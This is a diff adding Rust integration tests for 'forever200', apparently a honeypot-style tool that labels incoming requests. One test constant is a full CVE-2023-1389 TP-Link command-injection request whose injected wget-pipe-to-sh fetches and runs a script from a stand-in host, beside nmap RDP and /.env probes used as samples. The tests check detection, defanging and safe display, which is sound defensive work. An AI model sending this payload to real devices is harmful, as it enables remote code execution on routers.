@@ -1,0 +1,159 @@
+//! What a request is, from signatures to the page, to JSON and to the command line.
+
+use std::io::Write;
+use std::process::{Output, Stdio};
+
+use anyhow::{Context, ensure};
+use forever200_testkit::process::{command, programs};
+use forever200_testkit::stack::Stack;
+use serde_json::{Value, json};
+
+const EXPLOIT: &[u8] = b"GET /cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(wget+http://192.0.2.66/x.sh+-O-|sh) HTTP/1.1\r\nHost: x\r\n\r\n";
+const OWN: &str = r#"
+[[signature]]
+id = "own"
+title = "What we look for"
+category = "monitoring"
+explanation = "A request that our own machines send every minute, to see whether this one is up."
+match.path.equals = "/own"
+examples = ["GET /own HTTP/1.1"]
+"#;
+
+fn file(text: &[u8]) -> anyhow::Result<tempfile::NamedTempFile> {
+    let mut file = tempfile::NamedTempFile::new()?;
+    file.write_all(text)?;
+    Ok(file)
+}
+
+/// Runs `forever200-viewer identify` with these bytes on its standard input.
+fn identify(arguments: &[&str], stdin: &[u8]) -> anyhow::Result<Output> {
+    let mut child = command(programs()?.join("forever200-viewer"))
+        .arg("identify")
+        .args(arguments)
+        .stdin(Stdio::piped())
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped())
+        .spawn()?;
+    child.stdin.take().context("no stdin")?.write_all(stdin)?;
+    Ok(child.wait_with_output()?)
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_label_is_on_the_page_in_json_and_in_the_exports() -> anyhow::Result<()> {
+    let stack = Stack::start().await?;
+    stack.send(EXPLOIT).await?;
+    stack
+        .send(b"\x03\x00\x00\x2a\x25\xe0\x00\x00\x00\x00\x00Cookie: mstshash=nmap\r\n\x01\x00\x08\x00\x03\x00\x00\x00")
+        .await?;
+    let list = stack.until_recorded(2).await?;
+    let (exploit, rdp) = (&list["requests"][1], &list["requests"][0]);
+    let label = &exploit["labels"][0];
+    assert_eq!((&label["category"], &label["cve"]), (&json!("exploit"), &json!(["CVE-2023-1389"])));
+    assert_eq!(label["references"][0], "https://www.cve.org/CVERecord?id=CVE-2023-1389");
+    let range = |at: usize| label["evidence"][0][at].as_u64().map(|at| at as usize).context("no evidence");
+    assert!(EXPLOIT[range(0)?..range(1)?].starts_with(b"/cgi-bin/luci/;stok=/locale"), "{label}");
+    assert_eq!(exploit["indicators"], json!([{ "address": "hxxp://192[.]0[.]2[.]66/x.sh" }]));
+    assert_eq!((&rdp["protocol"], &rdp["summary"]), (&json!("rdp"), &json!("Cookie: mstshash=nmap")));
+    assert_eq!(rdp["labels"][0]["category"], "wrong-protocol");
+
+    let title = label["title"].as_str().context("no title")?;
+    let explanation = label["explanation"].as_str().context("no explanation")?;
+    for path in ["/home", "/home/text", "/home/export.html", "/home/export.har", "/home/export.ndjson"] {
+        ensure!(stack.get(path).await?.text().contains(title), "{path} does not say {title}");
+    }
+    let page = stack.get("/home/requests/1").await?.text().replace("&#x2f;", "/");
+    ensure!(page.contains(title) && page.contains(explanation), "{page}");
+    ensure!(page.contains("<mark>/cgi-bin/luci/;stok=/locale</mark>"), "no evidence in {page}");
+    ensure!(page.contains("hxxp://192[.]0[.]2[.]66/x.sh") && !page.contains("href=\"http://192"), "{page}");
+    let known = stack.get("/home/labels").await?.text();
+    ensure!(known.contains(title) && known.contains("/home?label=tp-link") && known.contains("×1"), "no count");
+    Ok(())
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn labels_filter_the_list() -> anyhow::Result<()> {
+    let stack = Stack::start().await?;
+    stack.send(EXPLOIT).await?;
+    stack.send(b"GET /.env HTTP/1.1\r\n\r\n").await?;
+    stack.until_recorded(2).await?;
+    for (query, seqs) in [
+        ("category=exploit", json!([1])),
+        ("category=secrets", json!([2])),
+        ("category=crawler", json!([])),
+        ("cve=cve-2023-1389", json!([1])),
+        ("country=NL", json!([])),
+        ("as=AS64496", json!([])),
+    ] {
+        let list: Value = serde_json::from_slice(&stack.get(&format!("/home/api/requests?{query}")).await?.body)?;
+        let found: Vec<_> =
+            list["requests"].as_array().context("no list")?.iter().map(|it| it["seq"].clone()).collect();
+        assert_eq!(json!(found), seqs, "{query}");
+    }
+    for query in ["category=evil", "as=here"] {
+        assert_eq!(stack.get(&format!("/home?{query}")).await?.status, 400, "{query}");
+    }
+    let stats: Value = serde_json::from_slice(&stack.get("/home/api/stats").await?.body)?;
+    assert_eq!(stats["categories"], json!({ "exploit": 1, "secrets": 1 }));
+    Ok(())
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn signatures_of_ones_own_are_beside_the_others() -> anyhow::Result<()> {
+    let own = file(OWN.as_bytes())?;
+    let path = own.path().to_str().context("an odd name")?;
+    let stack = Stack::start_with(&[("FOREVER200_SIGNATURES", path)]).await?;
+    stack.send(b"GET /own HTTP/1.1\r\n\r\n").await?;
+    stack.send(EXPLOIT).await?;
+    let list = stack.until_recorded(2).await?;
+    let ids = |at: usize| list["requests"][at]["labels"].as_array().cloned().unwrap_or_default();
+    assert!(ids(1).iter().any(|label| label["id"] == "own"), "{list}");
+    assert_eq!(list["requests"][0]["labels"][0]["category"], "exploit");
+    Ok(())
+}
+
+#[test]
+fn a_broken_file_of_signatures_is_refused_with_line_and_reason() -> anyhow::Result<()> {
+    let broken = file(OWN.replace("monitoring", "evil").as_bytes())?;
+    let viewer = programs()?.join("forever200-viewer");
+    let output = command(viewer).env("FOREVER200_SIGNATURES", broken.path()).output()?;
+    let stderr = String::from_utf8(output.stderr)?;
+    assert_eq!((output.status.code(), stderr.lines().count()), (Some(2), 1), "{stderr}");
+    assert!(stderr.contains("line 5: unknown variant `evil`"), "{stderr}");
+    Ok(())
+}
+
+#[test]
+fn identify_prints_what_a_request_is() -> anyhow::Result<()> {
+    let text = String::from_utf8(identify(&[], EXPLOIT)?.stdout)?;
+    assert!(text.starts_with("-: http: GET /cgi-bin/luci/"), "{text}");
+    for part in ["  exploit: TP-Link Archer", ", CVE-2023-1389 (", "    bytes 4 to ", "hxxp://192[.]0[.]2[.]66/x.sh"] {
+        assert!(text.contains(part), "no {part} in {text}");
+    }
+    let (exploit, noise) = (file(EXPLOIT)?, file(b"\xff\x1b[31m")?);
+    let paths = [exploit.path(), noise.path()].map(|path| path.to_str().unwrap_or_default());
+    let output = identify(&[&["--json"][..], &paths].concat(), b"")?;
+    let lines: Vec<Value> = output.stdout.split(|&byte| byte == b'\n').flat_map(serde_json::from_slice).collect();
+    assert_eq!((lines.len(), &lines[0]["file"]), (2, &json!(paths[0])));
+    assert_eq!((&lines[0]["labels"][0]["cve"][0], &lines[1]["protocol"]), (&json!("CVE-2023-1389"), &json!("unknown")));
+    // A terminal obeys nothing of it.
+    let shown = identify(&paths[1..], b"")?.stdout;
+    assert!(shown.iter().all(|byte| matches!(byte, b'\n' | b' '..=b'~')), "{}", shown.escape_ascii());
+    assert!(!identify(&["/nonexistent"], b"")?.status.success());
+    Ok(())
+}
+
+#[test]
+fn identify_reads_a_corpus() -> anyhow::Result<()> {
+    use base64::Engine;
+    let b64 = |raw: &[u8]| base64::prelude::BASE64_STANDARD.encode(raw);
+    let lines =
+        [json!({ "id": "a", "b64": b64(EXPLOIT) }), json!({ "id": "b", "b64": b64(b"SSH-2.0-Go\r\n"), "more": 1 })];
+    let corpus = file(lines.map(|line| format!("{line}\n")).concat().as_bytes())?;
+    let path = corpus.path().to_str().context("an odd name")?;
+    let output = identify(&["--corpus", path], b"")?.stdout;
+    let found: Vec<Value> = output.split(|&byte| byte == b'\n').flat_map(serde_json::from_slice).collect();
+    assert_eq!((&found[0]["id"], &found[0]["protocol"]), (&json!("a"), &json!("http")));
+    assert_eq!(found[0]["labels"][0]["cve"], json!(["CVE-2023-1389"]));
+    assert_eq!((&found[1]["id"], &found[1]["protocol"]), (&json!("b"), &json!("ssh")));
+    Ok(())
+}
